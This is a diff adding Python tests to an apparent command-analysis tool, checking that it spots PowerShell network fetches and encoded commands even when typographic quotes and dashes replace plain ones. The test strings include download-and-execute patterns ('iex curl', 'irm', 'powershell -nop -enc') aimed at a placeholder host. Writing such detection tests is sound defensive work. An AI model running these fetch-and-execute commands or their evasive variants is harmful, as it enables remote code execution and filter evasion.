@@ -303,6 +303,38 @@ def test_powershell_script() -> None:
     } <= flows(facts)
 
 
+@pytest.mark.parametrize(
+    ("text", "cut"),
+    [
+        ("iex \u2018curl https://a.invalid/x\u2019", "iex \u2018curl https://a.invalid/x\u2019"),
+        ("$a = \u201c\u2019\u201e; irm \u201chttps://a.invalid/x\u201d", "irm \u201chttps://a.invalid/x\u201d"),
+        ("\u201ait\u2019\u2019s\u201b; irm \u2019https://a.invalid/x'", "irm \u2019https://a.invalid/x'"),
+        ("irm \u2014Uri https://a.invalid/x", "irm \u2014Uri https://a.invalid/x"),
+    ],
+)
+def test_powershell_takes_the_marks_of_books(text: str, cut: str) -> None:
+    """Quotation marks and dashes that a word processor makes are as good as those of the keyboard; places stay."""
+    facts = read(text, "powershell")
+    connect = next(fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT)
+    assert facts.complete
+    assert connect.value == "https://a.invalid/x"
+    assert text.encode()[connect.span.start : connect.span.end].decode() == cut
+
+
+@pytest.mark.parametrize("dash", ["-", "/", "\u2013", "\u2014", "\u2015"])
+def test_powershell_takes_other_dashes_before_its_options(dash: str) -> None:
+    """A path that begins with a slash is none."""
+    encoded = base64.b64encode("iwr http://a.invalid/x".encode("utf-16-le")).decode()
+    assert values(read(f"powershell {dash}nop {dash}enc {encoded}"), Kind.NET_CONNECT) == ["http://a.invalid/x"]
+    assert values(read("powershell /e/x.ps1"), Kind.CODE_EVAL) == ["/e/x.ps1"]
+
+
+def test_a_dash_in_a_sentence_stays() -> None:
+    """Only before the name of a parameter it is one."""
+    facts = read("irm https://a.invalid \u2013Body 'x \u2014 y'", "powershell")
+    assert values(facts, Kind.PROCESS_SPAWN) == ["irm https://a.invalid -Body x \u2014 y"]
+
+
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
 def test_places_are_those_of_the_published_file(encoding: str) -> None:
     """Whatever the encoding, a span cuts the command out of the bytes as published."""
